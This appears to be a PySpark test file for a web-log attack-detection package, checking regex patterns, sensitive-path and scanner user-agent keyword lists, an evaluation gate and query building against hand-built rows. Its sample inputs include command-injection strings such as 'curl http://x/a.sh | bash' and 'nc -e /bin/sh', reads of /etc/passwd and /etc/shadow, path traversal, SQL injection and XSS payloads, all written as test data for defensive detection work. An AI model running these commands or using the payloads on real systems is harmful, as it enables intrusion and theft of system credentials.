"""Fixed values of the contract: patterns, keywords, gates and texts, against hand-built rows."""

import re

from pyspark.sql import functions as F

from lograil.operators import corpus, evals, features, reports, retrieve
from lograil.operators.rules import LIBRARIES, dialect

TEXTS = [
    "/index.html", ";whoami", "|| cat /etc/passwd", "`id`", "` id)", "$( whoami )", "bash -c id", "cmd.exe /c dir", "powershell -encodedcommand x", "netstat -an", "ps /aux", r"type c:\windows\win.ini", r"type c:\windows\notes.txt",
    "curl http://x/a.sh | bash", "nc -e /bin/sh", "../../a", "..\\a", "..%2F", "..%255c", "/etc/shadow", r"C:\Winnt\x", "%00.jpg", "\\x00", "/admin", "/administrator?x", "/ADMIN/", "/login", "/password.yml", "/swagger-ui/", "/.git/config", "/a/backup_1.zip",
    "1 UNION  ALL SELECT", "x'--", "admin' #", "/* x */", "1 or 1=1", "or é=é", "sleep (5)", "; drop table", "load_file(", "information_schema.tables", "<script src=x>", "<SCRIPT>\nalert(1)</script>", "javascript :alert (1)", "onerror=alert(1)", " onclick = >", "setTimeout(", "<svg\nonload=", "&#x6a;", "", "é",
]


def test_patterns_find_what_python_finds(spark):
    rows = spark.createDataFrame([(i, t) for i, t in enumerate(TEXTS)], "i int, t string")
    patterns = [(pid, rx) for ps in LIBRARIES.values() for pid, rx in ps]
    got = rows.select("i", *[F.col("t").rlike(dialect(rx)).alias(pid) for pid, rx in patterns]).collect()
    for r in got:
        for pid, rx in patterns:
            assert r[pid] == bool(re.search(rx, TEXTS[r["i"]])), (pid, TEXTS[r["i"]])
    assert len(patterns) == 34 and len({pid for pid, _ in patterns}) == 34
    hit = {r["i"] for r in got if r["sensitive_file_read"]}
    assert TEXTS.index(r"type c:\windows\win.ini") in hit and TEXTS.index(r"type c:\windows\notes.txt") not in hit


def test_whole_keyword_lists(spark):
    assert [len(x) for x in (features.SENSITIVE, features.BOTS)] == [53, 133]
    rows = [("/login.php", "curl/8.0", 1, 1), ("/swagger", "Nikto/2", 1, 1), ("/actuator", "python-requests/2", 1, 1), ("/x.bak", "okhttp", 1, 1), ("/item/1", "Mozilla/5.0", 0, 0), ("/Backup", "LOIC", 1, 0), ("/nothing", "Nexpose", 0, 0), ("/v2/API-docs", "KrOWLer", 1, 0)]
    got = features.extract(spark.createDataFrame([(i, "GET", u, 200, a) for i, (u, a, _, _) in enumerate(rows)], "i int, method string, path string, status int, user_agent string"), keep=("i",)).collect()
    for r in got:
        assert (r["has_sensitive_file"], r["is_bot_user_agent"]) == rows[r["i"]][2:], rows[r["i"]]


def test_markdown_needs_both_ids_and_keeps_headings(spark):
    page = "---\ndoc_id: k\nattack_type: xss\n---\n# The  title \nintro\n## One\nbody\n### sub\n## Two\nend \n"
    texts = [page, page.replace("attack_type: xss", "attack_type:"), page.replace("doc_id: k", ""), "---\ndoc_id: n\nattack_type: x\n---\n## Only\nx", "---\ndoc_id: n\nattack_type: x\n---\nno heading", "", None]
    got = {r["source_id"]: r["content"] for r in corpus.markdown_chunks(spark.createDataFrame([(t,) for t in texts], "text string")).collect()}
    assert got == {"k::0": "# The  title\n\n## One\nbody\n### sub", "k::1": "# The  title\n\n## Two\nend", "n::0": "# n\n\n## Only\nx"}


def test_gate_of_trajectories(spark):
    rows = [("a", 1, True, "s1", "x", "q=1", 10, "high"), ("a", 2, False, "", "y", "q=1", 10, "low"), ("b", 1, True, "s1", "x", "q=1", 10, None), ("b", 2, True, "s2", "y", "q=2", 10, None)]
    calls = spark.createDataFrame(rows, "case_id string, step int, ok boolean, source_id string, text string, args string, tokens int, risk_level string")
    got = {r["case_id"]: r["reasons"] for r in evals.gate(calls, 10, 1000, 2, hypotheses=2).collect()}
    assert got == {"a": "last_failed,conflict,same_arguments,no_ids,covered,change_direction", "b": "covered"}
    assert {r["reasons"] for r in evals.gate(calls, 4, 20, 2).where("case_id = 'b'").collect()} == {"tokens"}
    assert {r["reasons"] for r in evals.gate(calls, 3, 21, 3).where("case_id = 'b'").collect()} == {"little_evidence,budget"}


def test_texts_of_queries_and_records(spark):
    logs = spark.createDataFrame([("1", "", "", "/p", "GET", "sqlmap/1", "none"), ("2", "1.1.1.1", "xss", "/p", "GET", "m", "SQLi, 爆破")], "event_id string, ip string, attack_type string, path string, method string, user_agent string, missing string")
    assert [r["query"] for r in retrieve.follow_up(logs, 0).orderBy("event_id").collect()] == ["/p", "1.1.1.1 xss SQLi 爆破"]
    assert [r["query"] for r in retrieve.follow_up(logs, 1).orderBy("event_id").collect()] == ["GET sqlmap", "1.1.1.1 GET xss"]
    tool = spark.sql("select 1 as call_id, array(named_struct('event_id', '', 'id', '7', 'ip', '', 'risk_level', 'high')) as logs, array(named_struct('event_id', '8', 'id', '9', 'ip', '', 'risk_level', '')) as results")
    assert [(r["source_id"], r["content"]) for r in retrieve.tool_evidence(tool).orderBy("i").collect()] == [("7", "risk=high"), ("8", '{"event_id":"8","id":"9","ip":"","risk_level":""}')]


def test_volume_of_a_card(spark):
    got = spark.createDataFrame([(n,) for n in (0, 999, 1999, 999_999, 1_000_000, 2_560_000)], "n long").select(reports.volume(F.col("n")).alias("t")).collect()
    assert [r["t"] for r in got] == ["0", "999", "1K", "999K", "1.0M", "2.6M"]
